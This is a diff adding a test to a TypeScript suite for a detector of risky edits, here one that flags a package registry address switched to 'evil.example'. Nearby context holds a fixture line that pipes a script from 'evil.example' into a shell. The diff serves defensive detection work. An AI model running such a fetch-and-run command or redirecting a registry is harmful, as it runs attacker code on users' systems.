@@ -52,6 +52,13 @@ suite('what an edit adds that acts by itself', () => {
     }
   });
 
+  test('is the same key with another address on the line below it', () => {
+    const at = (host: string) => `"registry":\n    "https://${host}.example/"\n`;
+    assert.deepEqual(addedRisks({ before: at('good'), after: at('evil') }), [
+      { kind: 'registry', key: 'registry', value: 'https://evil.example/' },
+    ]);
+  });
+
   test('is told with the address that is fetched and run', () => {
     const after = 'RUN curl -fsSL https://evil.example/x.sh | sh\n';
     assert.deepEqual(addedRisks({ before: '', after }), [
